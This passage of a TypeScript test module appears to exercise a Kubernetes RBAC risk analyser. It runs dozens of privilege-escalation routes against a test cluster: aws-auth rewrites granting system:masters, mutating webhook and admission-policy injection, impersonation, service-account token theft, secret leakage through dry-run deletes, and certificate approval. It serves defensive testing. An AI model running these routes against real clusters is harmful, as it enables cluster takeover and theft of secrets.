import { Buffer } from 'node:buffer';
import * as v from 'valibot';
import { expect, vi } from 'vitest';
import type { AwsAuthState } from '../../src/rbac/model.ts';
import type { Risk } from '../../src/rbac/ways-to-admin.ts';
import { adminToken, type ClientCertificate, callApi } from './api.ts';
import { sessionOf, tokenOf } from './callers.ts';
import { requestCertificate } from './certificate-request.ts';
import { liveData, setAwsAuth } from './control.ts';
import { answerWebhook } from './mutating-webhook.ts';
import { API, reviewed } from './rbac-cluster.ts';
import type { Manifest, Rule } from './rbac-sets.ts';

/** Routes to cluster admin, carried out by a caller with exactly these permissions. */

const GROUP = 'rbac.authorization.k8s.io';
const ADMISSION = '/apis/admissionregistration.k8s.io/v1';
const CERTIFICATES = '/apis/certificates.k8s.io/v1/certificatesigningrequests';
/** A namespace with a cluster-admin service account, like Argo CD's. */
const PAYMENTS = 'ways-payments';
/** A namespace whose accounts have no permissions. */
const EMPTY = 'ways-empty';
const ARGOCD = 'system:serviceaccount:ways-payments:argocd';
const AGGREGATION = 'clusterrole-aggregation-controller';
const PLATFORM = 'platform-admins';
const CLIENT_SIGNER = 'kubernetes.io/kube-apiserver-client';
/** Secrets with service account tokens, which older clusters have for each account. */
const OF_ARGOCD = 'token-of-argocd';
const OF_CONTROLLER = 'token-of-controller';

export interface Attempt {
  readonly risk: Risk;
  /** Short description of the attempt. */
  readonly title: string;
  readonly rights: readonly Right[];
  /** Knowledge about aws-auth; by default, that it counts. */
  readonly awsAuth?: AwsAuthState;
  /** Returns the caller who ends up as cluster admin. */
  readonly run: (me: Caller) => Promise<Caller>;
  /** The error of the first step that fails; undefined if none does. */
  readonly refusal?: RegExp;
  /** Proves that the resulting caller is cluster admin; by default, by asking for everything. */
  readonly proof?: (who: Caller) => Promise<unknown>;
}

export interface Right {
  readonly rules: readonly Rule[];
  /** The namespace of a Role and RoleBinding; undefined for cluster-wide. */
  readonly namespace?: string;
}

/** Calls the API server with one identity. */
export class Caller {
  readonly name: string;
  private readonly credentials: () => string | ClientCertificate;
  private readonly headers: Readonly<Record<string, string | string[]>>;

  constructor(
    name: string,
    credentials: () => string | ClientCertificate,
    headers: Readonly<Record<string, string | string[]>> = {},
  ) {
    this.name = name;
    this.credentials = credentials;
    this.headers = headers;
  }

  get(path: string): Promise<unknown> {
    return callApi('GET', path, this.credentials(), undefined, this.headers);
  }

  post(path: string, body: unknown): Promise<unknown> {
    return callApi('POST', path, this.credentials(), body, this.headers);
  }

  put(path: string, body: unknown): Promise<unknown> {
    return callApi('PUT', path, this.credentials(), body, this.headers);
  }

  delete(path: string): Promise<unknown> {
    return callApi('DELETE', path, this.credentials(), undefined, this.headers);
  }

  patch(path: string, body: unknown): Promise<unknown> {
    const headers = { ...this.headers, 'content-type': 'application/merge-patch+json' };
    return callApi('PATCH', path, this.credentials(), body, headers);
  }

  withOneToken(): Caller {
    const credentials = this.credentials();
    return new Caller(this.name, () => credentials, this.headers);
  }

  as(user: string | null, ...groups: readonly string[]): Caller {
    return new Caller(this.name, this.credentials, {
      ...(user !== null && { 'impersonate-user': user }),
      ...(groups.length > 0 && { 'impersonate-group': [...groups] }),
    });
  }

  /** A caller with a service account's token. */
  async tokenFor(namespace: string, account: string): Promise<Caller> {
    const path = `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`;
    const { status } = v.parse(tokenSchema, await this.post(path, { spec: {} }));
    return new Caller(account, () => status.token);
  }
}

const tokenSchema = v.object({ status: v.object({ token: v.string() }) });

export const ROLE = 'arn:aws:iam::111122223333:role/attacker';
const EVIL = 'arn:aws:iam::111122223333:role/evil';
/** Uses the session name as the username. */
const OWN_AWS_AUTH = `- {rolearn: "${ROLE}", username: "{{SessionName}}", groups: []}\n`;
const WITH_EVIL = `${OWN_AWS_AUTH}- {rolearn: "${EVIL}", username: evil, groups: [system:masters]}\n`;

export function callerOf(rolearn: string, session: string): Caller {
  return new Caller(session, () => tokenOf(sessionOf(rolearn, session)));
}

const administrator = new Caller('administrator', adminToken);
const evil = callerOf(EVIL, 'evil');

const rule = (verbs: string, apiGroup: string, resources: string, ...resourceNames: string[]): Rule => ({
  verbs: verbs.split(' '),
  apiGroups: [apiGroup],
  resources: resources.split(' '),
  ...(resourceNames.length > 0 && { resourceNames }),
});
const everywhere = (...rules: Rule[]): Right => ({ rules });
const within = (namespace: string, ...rules: Rule[]): Right => ({ rules, namespace });

const ALL: readonly Rule[] = [
  { verbs: ['*'], apiGroups: ['*'], resources: ['*'] },
  { verbs: ['*'], nonResourceURLs: ['*'] },
];
const ALL_IN_NAMESPACE = ALL.slice(0, 1);
const binding = (kind: string, name: string, role: string, subjects: readonly object[]) => ({
  apiVersion: `${GROUP}/v1`,
  kind,
  metadata: { name },
  roleRef: { apiGroup: GROUP, kind: 'ClusterRole', name: role },
  subjects,
});
const user = (name: string) => ({ apiGroup: GROUP, kind: 'User', name });
const bindMe = (name: string) => binding('ClusterRoleBinding', `of-${name}`, 'cluster-admin', [user(name)]);
const bindMeIn = (name: string) => binding('RoleBinding', `of-${name}`, 'cluster-admin', [user(name)]);
const rolesIn = (namespace: string) => `${API}/namespaces/${namespace}/roles`;
const bindingsIn = (namespace: string) => `${API}/namespaces/${namespace}/rolebindings`;
const AWS_AUTH = '/api/v1/namespaces/kube-system/configmaps/aws-auth';
const awsAuth = { metadata: { name: 'aws-auth' }, data: { mapRoles: WITH_EVIL } };

/** Retries until the API server has noticed the last change. */
function eventually<Result>(run: () => Promise<Result>): Promise<Result> {
  return vi.waitFor(run, { timeout: 20_000, interval: 50 });
}

export async function requireEverything(who: Caller): Promise<void> {
  for (const attributes of [
    { resourceAttributes: { verb: '*', group: '*', resource: '*' } },
    { nonResourceAttributes: { verb: '*', path: '*' } },
  ]) {
    const review = {
      apiVersion: 'authorization.k8s.io/v1',
      kind: 'SelfSubjectAccessReview',
      spec: attributes,
    };
    expect(reviewed(await who.post('/apis/authorization.k8s.io/v1/selfsubjectaccessreviews', review))).toBe(
      true,
    );
  }
}

const secretsSchema = v.object({ items: v.array(v.object({ metadata: v.object({ name: v.string() }) })) });

async function requireSecrets(who: Caller, path: string, name: string): Promise<void> {
  const { items } = v.parse(secretsSchema, await who.get(path));
  expect(items.map(({ metadata }) => metadata.name)).toContain(name);
}

const SECRETS_OF_SYSTEM = '/api/v1/namespaces/kube-system/secrets';
const SECRET_OF_SYSTEM = `${SECRETS_OF_SYSTEM}/of-kube-system`;
const readsAllSecrets = (who: Caller) => requireSecrets(who, '/api/v1/secrets', `of-${PAYMENTS}`);
const readsSystemSecrets = (who: Caller) =>
  requireSecrets(who, '/api/v1/namespaces/kube-system/secrets', 'of-kube-system');

/** Takes a service account's token, with all permissions in its namespace. */
async function throughArgocd(me: Caller): Promise<Caller> {
  return eventually(() => me.tokenFor(PAYMENTS, 'argocd'));
}

/** This controller can write any permission into any role, including its own. */
async function throughController(me: Caller): Promise<Caller> {
  return throughToken(await eventually(() => me.tokenFor('kube-system', AGGREGATION)));
}

async function throughToken(controller: Caller): Promise<Caller> {
  await controller.patch(`${API}/clusterroles/system:controller:${AGGREGATION}`, { rules: ALL });
  return controller;
}

const clusterRole = (name: string) => `${API}/clusterroles/${name}`;

/** The holder's name, which also distinguishes the permissions of each attempt, see `rightsOf`. */
export function holderOf(index: number): string {
  return `attacker-${index}`;
}

export function manifestsFor(name: string, rights: readonly Right[]): Manifest[] {
  return rights.flatMap(({ rules, namespace }, index) => {
    const kind = namespace === undefined ? 'ClusterRole' : 'Role';
    const metadata = { name: `${name}-${index}`, ...(namespace !== undefined && { namespace }) };
    const roleRef = { apiGroup: GROUP, kind, name: metadata.name };
    return [
      { apiVersion: `${GROUP}/v1`, kind, metadata, rules },
      { apiVersion: `${GROUP}/v1`, kind: `${kind}Binding`, metadata, roleRef, subjects: [user(name)] },
    ];
  });
}

const AUTHENTICATION = 'authentication.k8s.io';
const impersonate = (resources: string, ...names: string[]) => rule('impersonate', '', resources, ...names);
const asUserInfo = (resources: string, ...names: string[]) =>
  rule('impersonate:user-info', AUTHENTICATION, resources, ...names);
const onBehalf = (verb: string, apiGroup: string, resource: string) =>
  rule(`impersonate-on:user-info:${verb}`, apiGroup, resource);
const escalate = (...names: string[]) => rule('escalate', GROUP, 'clusterroles', ...names);
const bind = (...names: string[]) => rule('bind', GROUP, 'clusterroles', ...names);
const write = (verbs: string, resources: string, ...names: string[]) =>
  rule(verbs, GROUP, resources, ...names);
const admission = (verbs: string, resources: string) =>
  rule(verbs, 'admissionregistration.k8s.io', resources);
const configMaps = (verbs: string, ...names: string[]) =>
  within('kube-system', rule(verbs, '', 'configmaps', ...names));

const POLICY = {
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingAdmissionPolicy',
  metadata: { name: 'helper' },
  spec: {
    failurePolicy: 'Ignore',
    reinvocationPolicy: 'Never',
    matchConstraints: {
      resourceRules: [
        {
          apiGroups: [''],
          apiVersions: ['v1'],
          operations: ['UPDATE'],
          resources: ['configmaps'],
          resourceNames: ['aws-auth'],
        },
      ],
    },
    mutations: [
      {
        patchType: 'ApplyConfiguration',
        applyConfiguration: { expression: `Object{data: {"mapRoles": ${JSON.stringify(WITH_EVIL)}}}` },
      },
    ],
  },
};
const HARMLESS = {
  ...POLICY,
  spec: {
    ...POLICY.spec,
    mutations: [{ patchType: 'ApplyConfiguration', applyConfiguration: { expression: 'Object{}' } }],
  },
};
const POLICY_BINDING = {
  apiVersion: 'admissionregistration.k8s.io/v1',
  kind: 'MutatingAdmissionPolicyBinding',
  metadata: { name: 'helper' },
  spec: { policyName: 'helper' },
};

/** A cluster admin makes unrelated changes to aws-auth until the waiting caller has access. */
async function whenChanged(): Promise<Caller> {
  await eventually(async () => {
    await administrator.patch(AWS_AUTH, { metadata: { annotations: { changed: String(Date.now()) } } });
    await requireEverything(evil);
  });
  return evil;
}

const REFUSED = /: 403 /;
const NOT_HELD = /: 403 .*attempting to grant RBAC permissions not currently held/s;

/** Attempts that succeed or are refused, as the program predicts from these permissions. */
export const ATTEMPTS: readonly Attempt[] = [
  { risk: 'cluster-admin', title: 'everything', rights: [everywhere(...ALL)], run: async (me) => me },
  {
    risk: 'system-admin',
    title: 'everything in kube-system',
    rights: [within('kube-system', ...ALL_IN_NAMESPACE)],
    run: throughController,
  },
  ...(['patch', 'update'] as const).map(
    (verb): Attempt => ({
      risk: 'escalate',
      title: `escalate and ${verb} the caller's own role`,
      rights: [everywhere(escalate(), write(verb, 'clusterroles'))],
      run: async (me) => {
        const [path, role] = [
          clusterRole(`${me.name}-0`),
          { metadata: { name: `${me.name}-0` }, rules: ALL },
        ];
        await (verb === 'patch' ? me.patch(path, { rules: ALL }) : me.put(path, role));
        return me;
      },
    }),
  ),
  {
    risk: 'escalate',
    title: "escalate and create a role that the caller's role aggregates",
    rights: [everywhere(escalate(), write('create', 'clusterroles'))],
    run: async (me) => {
      const aggregationRule = { clusterRoleSelectors: [{ matchLabels: { 'taken-in': me.name } }] };
      await administrator.post(`${API}/clusterroles`, {
        metadata: { name: `all-${me.name}` },
        aggregationRule,
      });
      await administrator.post(
        `${API}/clusterrolebindings`,
        binding('ClusterRoleBinding', `all-${me.name}`, `all-${me.name}`, [user(me.name)]),
      );
      const labels = { 'taken-in': me.name };
      await me.post(`${API}/clusterroles`, { metadata: { name: `new-${me.name}`, labels }, rules: ALL });
      return me;
    },
  },
  {
    risk: 'escalate',
    title: 'escalate and patch a role in a namespace with a powerful service account',
    rights: [within(PAYMENTS, rule('escalate patch', GROUP, 'roles'))],
    run: async (me) => {
      await me.patch(`${rolesIn(PAYMENTS)}/${me.name}-0`, { rules: ALL_IN_NAMESPACE });
      return throughArgocd(me);
    },
  },
  {
    risk: 'escalate',
    title: 'escalate and patch a role in kube-system',
    rights: [within('kube-system', rule('escalate patch', GROUP, 'roles'))],
    run: async (me) => {
      await me.patch(`${rolesIn('kube-system')}/${me.name}-0`, { rules: ALL_IN_NAMESPACE });
      return throughController(me);
    },
  },
  {
    risk: 'escalate',
    title: 'only escalate',
    rights: [everywhere(escalate())],
    run: async (me) => {
      await me.patch(clusterRole(`${me.name}-0`), { rules: ALL });
      return me;
    },
    refusal: REFUSED,
  },
  {
    risk: 'escalate',
    title: 'only patch roles',
    rights: [everywhere(write('patch update create', 'clusterroles'))],
    run: async (me) => {
      await me.patch(clusterRole(`${me.name}-0`), { rules: ALL });
      return me;
    },
    refusal: NOT_HELD,
  },
  {
    risk: 'escalate',
    title: 'escalate another role than the writable one',
    rights: [everywhere(escalate('view'), write('patch', 'clusterroles', 'edit'))],
    run: async (me) => {
      await me.patch(`${clusterRole('edit')}?dryRun=All`, { rules: ALL });
      return me;
    },
    refusal: NOT_HELD,
  },
  {
    risk: 'bind',
    title: 'bind and create a cluster role binding',
    rights: [everywhere(bind('cluster-admin'), write('create', 'clusterrolebindings'))],
    run: async (me) => {
      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
  },
  {
    risk: 'bind',
    title: 'bind and patch an existing cluster role binding',
    rights: [everywhere(bind(), write('patch', 'clusterrolebindings', PLATFORM))],
    run: async (me) => {
      await me.patch(`${API}/clusterrolebindings/${PLATFORM}`, { subjects: [user(me.name), PLATFORM_GROUP] });
      return me;
    },
  },
  {
    risk: 'bind',
    title: 'bind and create a role binding in a namespace with a powerful service account',
    rights: [within(PAYMENTS, bind(), write('create', 'rolebindings'))],
    run: async (me) => {
      await me.post(bindingsIn(PAYMENTS), bindMeIn(me.name));
      return throughArgocd(me);
    },
  },
  {
    risk: 'bind',
    title: 'bind cluster-wide and create a role binding in kube-system',
    rights: [everywhere(bind()), within('kube-system', write('create', 'rolebindings'))],
    run: async (me) => {
      await me.post(bindingsIn('kube-system'), bindMeIn(me.name));
      return throughController(me);
    },
  },
  {
    risk: 'bind',
    title: 'only bind',
    rights: [everywhere(bind())],
    run: async (me) => {
      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
    refusal: REFUSED,
  },
  {
    risk: 'bind',
    title: 'only create bindings',
    rights: [everywhere(write('create patch', 'clusterrolebindings'))],
    run: async (me) => {
      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
    refusal: NOT_HELD,
  },
  {
    risk: 'bind',
    title: 'bind a harmless role',
    rights: [everywhere(bind('system:discovery'), write('create', 'clusterrolebindings'))],
    run: async (me) => {
      await me.post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
    refusal: NOT_HELD,
  },
  {
    risk: 'impersonate',
    title: 'impersonate a user who is cluster admin',
    rights: [everywhere(impersonate('users'))],
    run: async (me) => me.as('alice'),
  },
  {
    risk: 'impersonate',
    title: "impersonate the controllers' user",
    rights: [everywhere(impersonate('users', 'system:kube-controller-manager'))],
    run: async (me) => {
      await readsAllSecrets(me.as('system:kube-controller-manager'));
      return me.as('system:kube-controller-manager').tokenFor(PAYMENTS, 'argocd');
    },
  },
  {
    risk: 'impersonate',
    title: 'impersonate service accounts in a namespace with a powerful one',
    rights: [within(PAYMENTS, impersonate('serviceaccounts'))],
    run: async (me) => me.as(ARGOCD),
  },
  {
    risk: 'impersonate',
    title: 'impersonate groups, with a harmless user by name',
    rights: [everywhere(impersonate('groups'), impersonate('users', 'bob'))],
    run: async (me) => me.as('bob', 'system:masters'),
  },
  {
    risk: 'impersonate',
    title: 'impersonate system:masters, with any service account of one harmless namespace',
    rights: [
      everywhere(impersonate('groups', 'system:masters')),
      within(EMPTY, impersonate('serviceaccounts')),
    ],
    run: async (me) => me.as('system:serviceaccount:ways-empty:nobody', 'system:masters'),
  },
  {
    risk: 'impersonate',
    title: 'impersonate groups, without a user',
    rights: [everywhere(impersonate('groups'))],
    run: async (me) => me.as(null, 'system:masters'),
    refusal: /: 400 .*without impersonating a user name/s,
  },
  {
    risk: 'impersonate',
    title: 'impersonate groups, as the caller',
    rights: [everywhere(impersonate('groups'))],
    run: async (me) => me.as(me.name, 'system:masters'),
    refusal: REFUSED,
  },
  {
    risk: 'impersonate',
    title: 'impersonate a service account as a user',
    rights: [everywhere(impersonate('users', ARGOCD))],
    run: async (me) => me.as(ARGOCD),
    refusal: REFUSED,
  },
  {
    risk: 'impersonate',
    title: 'impersonate users through a role in a namespace',
    rights: [within(PAYMENTS, impersonate('users groups'))],
    run: async (me) => me.as('alice'),
    refusal: REFUSED,
  },
  {
    risk: 'impersonate-constrained',
    title: 'a binding on behalf of a cluster-admin group',
    rights: [everywhere(asUserInfo('users groups'), onBehalf('create', GROUP, 'clusterrolebindings'))],
    run: async (me) => {
      await me.as('bob', PLATFORM).post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
  },
  {
    risk: 'impersonate-constrained',
    title: 'a certificate on behalf of a cluster-admin group',
    rights: [
      everywhere(
        asUserInfo('users groups'),
        onBehalf('update', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
        onBehalf('patch', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
      ),
    ],
    run: (me) => approve(me.as('bob', PLATFORM), administrator),
  },
  {
    risk: 'impersonate-constrained',
    title: 'a mutating policy and its binding on behalf of a cluster-admin group',
    rights: [
      everywhere(
        asUserInfo('users groups'),
        onBehalf('create', 'admissionregistration.k8s.io', 'mutatingadmissionpolicies'),
        onBehalf('create', 'admissionregistration.k8s.io', 'mutatingadmissionpolicybindings'),
      ),
    ],
    run: async (me) => {
      const platform = me.as('bob', PLATFORM);
      await platform.post(`${ADMISSION}/mutatingadmissionpolicies`, POLICY);
      await platform.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
      return whenChanged();
    },
  },
  {
    risk: 'impersonate-constrained',
    title: "a token on behalf of the controllers' user",
    rights: [
      everywhere(
        asUserInfo('users', 'system:kube-controller-manager'),
        onBehalf('create', '', 'serviceaccounts/token'),
      ),
    ],
    run: (me) => me.as('system:kube-controller-manager').tokenFor(PAYMENTS, 'argocd'),
  },
  {
    risk: 'impersonate-constrained',
    title: 'a binding on behalf of a powerful service account',
    rights: [
      within(PAYMENTS, rule('impersonate:serviceaccount', AUTHENTICATION, 'serviceaccounts')),
      everywhere(rule('impersonate-on:serviceaccount:create', GROUP, 'clusterrolebindings')),
    ],
    run: async (me) => {
      await me.as(ARGOCD).post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
  },
  {
    risk: 'impersonate-constrained',
    title: 'only impersonate:user-info',
    rights: [everywhere(asUserInfo('users groups'))],
    run: async (me) => {
      await me.as('alice').post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
    refusal: /: 403 .*cannot impersonate-on:user-info:create/s,
  },
  {
    risk: 'impersonate-constrained',
    title: 'only impersonate-on',
    rights: [everywhere(onBehalf('create', GROUP, 'clusterrolebindings'))],
    run: async (me) => {
      await me.as('alice').post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
    refusal: /: 403 .*cannot impersonate:user-info/s,
  },
  {
    risk: 'impersonate-constrained',
    title: 'a binding on behalf of system:masters, by name',
    rights: [
      everywhere(
        asUserInfo('users', 'bob'),
        asUserInfo('groups', 'system:masters'),
        onBehalf('create', GROUP, 'clusterrolebindings'),
      ),
    ],
    run: async (me) => {
      await me.as('bob', 'system:masters').post(`${API}/clusterrolebindings`, bindMe(me.name));
      return me;
    },
    refusal: /: 403 .*impersonating the system:masters group is not allowed/s,
  },
  {
    risk: 'create-tokens',
    title: 'a token of a controller in kube-system',
    rights: [within('kube-system', rule('create', '', 'serviceaccounts/token', AGGREGATION))],
    run: throughController,
  },
  {
    risk: 'create-tokens',
    title: 'a token of a powerful service account in another namespace',
    rights: [within(PAYMENTS, rule('create', '', 'serviceaccounts/token'))],
    run: throughArgocd,
  },
  {
    risk: 'create-tokens',
    title: 'a token of a harmless service account',
    rights: [within(EMPTY, rule('create', '', 'serviceaccounts/token'))],
    run: (me) => me.tokenFor(EMPTY, 'default'),
    refusal: /expected false to be true/,
  },
  {
    risk: 'edit-aws-auth',
    title: 'patch aws-auth',
    rights: [configMaps('patch', 'aws-auth')],
    run: async (me) => {
      await me.patch(AWS_AUTH, { data: awsAuth.data });
      return evil;
    },
  },
  {
    risk: 'edit-aws-auth',
    title: 'update aws-auth',
    rights: [configMaps('update', 'aws-auth')],
    run: async (me) => {
      await me.put(AWS_AUTH, awsAuth);
      return evil;
    },
  },
  {
    risk: 'edit-aws-auth',
    title: 'delete and create aws-auth',
    rights: [configMaps('delete', 'aws-auth'), configMaps('create')],
    run: async (me) => {
      // This also deletes the caller's own entry, but the API server caches a token for ten seconds.
      const still = me.withOneToken();
      await still.delete(AWS_AUTH);
      await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
      return evil;
    },
  },
  {
    risk: 'edit-aws-auth',
    title: 'delete all config maps and create aws-auth',
    rights: [configMaps('deletecollection'), configMaps('create')],
    run: async (me) => {
      const still = me.withOneToken();
      await still.delete('/api/v1/namespaces/kube-system/configmaps?fieldSelector=metadata.name%3Daws-auth');
      await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
      return evil;
    },
  },
  {
    risk: 'edit-aws-auth',
    title: 'create config maps if aws-auth exists',
    rights: [configMaps('create')],
    run: async (me) => {
      await me.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
      return evil;
    },
    refusal: /: 409 /,
  },
  {
    risk: 'edit-aws-auth',
    title: 'create aws-auth if it is missing',
    rights: [configMaps('create')],
    awsAuth: 'may exist',
    run: async (me) => {
      // The API server caches a token for ten seconds; in EKS, the caller has an access entry.
      const still = me.withOneToken();
      await still.get('/version');
      await setAwsAuth(null);
      await still.post('/api/v1/namespaces/kube-system/configmaps', awsAuth);
      return evil;
    },
  },
  {
    risk: 'edit-webhooks',
    title: 'a webhook that changes aws-auth',
    rights: [everywhere(admission('create', 'mutatingwebhookconfigurations'))],
    run: async (me) => {
      await me.post(`${ADMISSION}/mutatingwebhookconfigurations`, await answerWebhook(WITH_EVIL));
      return whenChanged();
    },
  },
  {
    risk: 'edit-mutating-policies',
    title: 'a policy and its binding that change aws-auth',
    rights: [everywhere(admission('create', 'mutatingadmissionpolicies mutatingadmissionpolicybindings'))],
    run: async (me) => {
      await me.post(`${ADMISSION}/mutatingadmissionpolicies`, POLICY);
      await me.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
      return whenChanged();
    },
  },
  {
    risk: 'edit-mutating-policies',
    title: 'other content for a bound policy',
    rights: [everywhere(admission('patch', 'mutatingadmissionpolicies'))],
    run: async (me) => {
      await administrator.post(`${ADMISSION}/mutatingadmissionpolicies`, HARMLESS);
      await administrator.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
      await me.patch(`${ADMISSION}/mutatingadmissionpolicies/helper`, { spec: POLICY.spec });
      return whenChanged();
    },
  },
  {
    risk: 'edit-mutating-policies',
    title: 'a policy without a binding',
    rights: [everywhere(admission('create', 'mutatingadmissionpolicies'))],
    run: async (me) => {
      await me.post(`${ADMISSION}/mutatingadmissionpolicies`, POLICY);
      await me.post(`${ADMISSION}/mutatingadmissionpolicybindings`, POLICY_BINDING);
      return evil;
    },
    refusal: REFUSED,
  },
  ...(['get', 'list', 'watch'] as const).map(
    (verb): Attempt => ({
      risk: 'read-secrets',
      title: `${verb} all secrets`,
      rights: [everywhere(rule(verb, '', 'secrets'))],
      run: async (me) => me,
      proof: (me) => readSecret(me, verb, PAYMENTS, `of-${PAYMENTS}`),
    }),
  ),
  ...(
    [
      ['patch', (me) => me.patch(SECRET_OF_SYSTEM, {})],
      ['delete', (me) => me.delete(`${SECRET_OF_SYSTEM}?dryRun=All&propagationPolicy=Foreground`)],
      ['deletecollection', (me) => me.delete(`${SECRETS_OF_SYSTEM}?dryRun=All`)],
    ] as const satisfies readonly (readonly [string, (me: Caller) => Promise<unknown>])[]
  ).map(
    ([verb, ask]): Attempt => ({
      risk: 'read-system-secrets',
      title: `${verb} secrets, which returns them`,
      rights: [within('kube-system', rule(verb, '', 'secrets'))],
      run: async (me) => me,
      proof: async (me) =>
        expect(JSON.stringify(await ask(me))).toContain(Buffer.from(SECRET).toString('base64')),
    }),
  ),
  {
    risk: 'read-system-secrets',
    title: 'update secrets, which returns what the request has',
    rights: [within('kube-system', rule('update', '', 'secrets'))],
    run: async (me) => me,
    proof: async (me) => {
      const answer = await me.put(`${SECRET_OF_SYSTEM}?dryRun=All`, { metadata: { name: 'of-kube-system' } });
      expect(JSON.stringify(answer)).toContain(Buffer.from(SECRET).toString('base64'));
    },
    refusal: /to contain/,
  },
  {
    risk: 'create-tokens',
    title: 'a secret that requests a token, returned by its deletion',
    rights: [within(PAYMENTS, rule('create delete', '', 'secrets'))],
    run: async (me) => {
      const annotations = { 'kubernetes.io/service-account.name': 'argocd' };
      const metadata = { name: `of-${me.name}`, annotations };
      const path = `/api/v1/namespaces/${PAYMENTS}/secrets`;
      await me.post(path, { metadata, type: 'kubernetes.io/service-account-token' });
      return eventually(async () => {
        const deletion = `${path}/${metadata.name}?dryRun=All&propagationPolicy=Foreground`;
        const { data } = v.parse(v.object({ data: dataSchema }), await me.delete(deletion));
        const token = Buffer.from(data?.token ?? '', 'base64').toString();
        expect(token).not.toBe('');
        return new Caller('argocd', () => token);
      });
    },
  },
  {
    risk: 'read-secrets',
    title: 'all secrets through a role in one namespace',
    rights: [within(EMPTY, rule('get list watch', '', 'secrets'))],
    run: async (me) => me,
    proof: readsAllSecrets,
    refusal: REFUSED,
  },
  {
    risk: 'read-system-secrets',
    title: 'list the secrets of kube-system',
    rights: [within('kube-system', rule('list', '', 'secrets'))],
    run: async (me) => me,
    proof: readsSystemSecrets,
  },
  {
    risk: 'approve-certificates',
    title: 'a certificate that the caller requested',
    rights: [
      everywhere(
        rule('create', 'certificates.k8s.io', 'certificatesigningrequests'),
        rule('update patch', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
        rule('approve', 'certificates.k8s.io', 'signers', CLIENT_SIGNER),
      ),
    ],
    run: (me) => approve(me, me),
  },
  {
    risk: 'approve-certificates',
    title: 'a certificate that someone else requested',
    rights: [
      everywhere(
        rule('update patch', 'certificates.k8s.io', 'certificatesigningrequests/approval'),
        rule('approve', 'certificates.k8s.io', 'signers'),
      ),
    ],
    run: (me) => approve(me, administrator),
  },
  {
    risk: 'approve-certificates',
    title: 'approval without permission for the signer',
    rights: [everywhere(rule('update patch', 'certificates.k8s.io', 'certificatesigningrequests/approval'))],
    run: (me) => approve(me, administrator),
    refusal: /: 403 .*user not permitted to approve requests/s,
  },
  {
    risk: 'create-tokens',
    title: 'a secret that requests a token of a powerful service account',
    rights: [within(PAYMENTS, rule('create get', '', 'secrets'))],
    run: async (me) => {
      const annotations = { 'kubernetes.io/service-account.name': 'argocd' };
      const metadata = { name: `of-${me.name}`, annotations };
      const path = `/api/v1/namespaces/${PAYMENTS}/secrets`;
      await me.post(path, { metadata, type: 'kubernetes.io/service-account-token' });
      return tokenIn(me, `${path}/${metadata.name}`);
    },
  },
  {
    risk: 'read-system-secrets',
    title: 'a token in a secret of kube-system',
    rights: [within('kube-system', rule('get', '', 'secrets'))],
    run: async (me) => {
      const controller = await tokenIn(me, `/api/v1/namespaces/kube-system/secrets/${OF_CONTROLLER}`);
      return throughToken(controller);
    },
  },
  {
    risk: 'act-as-account',
    title: 'a token in a secret of a namespace with a powerful service account',
    rights: [within(PAYMENTS, rule('list', '', 'secrets'))],
    run: async (me) => {
      const { items } = v.parse(
        v.object({
          items: v.array(v.looseObject({ metadata: v.object({ name: v.string() }), data: dataSchema })),
        }),
        await me.get(`/api/v1/namespaces/${PAYMENTS}/secrets`),
      );
      const token = items.find(({ metadata }) => metadata.name === OF_ARGOCD)?.data?.token ?? '';
      return new Caller('argocd', () => Buffer.from(token, 'base64').toString());
    },
  },
  {
    risk: 'exec',
    title: 'exec with only get',
    rights: [everywhere(rule('get', '', 'pods/exec pods/attach'))],
    run: async (me) => {
      await me.get(`/api/v1/namespaces/${PAYMENTS}/pods/web/exec?command=id&container=web`);
      return me;
    },
    refusal: REFUSED,
  },
];

const PLATFORM_GROUP = { apiGroup: GROUP, kind: 'Group', name: PLATFORM };

async function readSecret(
  me: Caller,
  verb: 'get' | 'list' | 'watch',
  namespace: string,
  name: string,
): Promise<void> {
  const path = `/api/v1/namespaces/${namespace}/secrets`;
  if (verb === 'list') return requireSecrets(me, path, name);
  // One event: the existing secret.
  const watched = `${path}?watch=1&resourceVersion=0&timeoutSeconds=1&fieldSelector=metadata.name%3D${name}`;
  const answer = await me.get(verb === 'get' ? `${path}/${name}` : watched);
  expect(JSON.stringify(answer)).toContain(Buffer.from(SECRET).toString('base64'));
}

const SECRET = 'not for everybody';

const certificateSchema = v.object({ status: v.object({ certificate: v.string() }) });

/** Approves a certificate for a member of a cluster-admin group, and returns a caller with it. */
async function approve(me: Caller, asker: Caller): Promise<Caller> {
  const { key, request } = requestCertificate('evil', PLATFORM);
  const spec = { request, signerName: CLIENT_SIGNER, usages: ['client auth'] };
  const path = `${CERTIFICATES}/for-${me.name}`;
  const asked = await asker.post(CERTIFICATES, { metadata: { name: `for-${me.name}` }, spec });
  const condition = { type: 'Approved', status: 'True', reason: 'Test', message: 'by somebody' };
  const approved = { ...v.parse(v.looseObject({}), asked), status: { conditions: [condition] } };
  await me.put(`${path}/approval`, approved);
  return eventually(async () => {
    // Approves it again: the answer has the certificate, even for a caller who can't read it.
    const answer = await me.patch(`${path}/approval`, {});
    const cert = Buffer.from(v.parse(certificateSchema, answer).status.certificate, 'base64').toString();
    return new Caller('evil', () => ({ key, cert }));
  });
}

/** Creates the objects that the attempts need in the cluster. */
export async function makeSurroundings(): Promise<void> {
  await setAwsAuth({ mapRoles: OWN_AWS_AUTH });
  for (const name of [PAYMENTS, EMPTY])
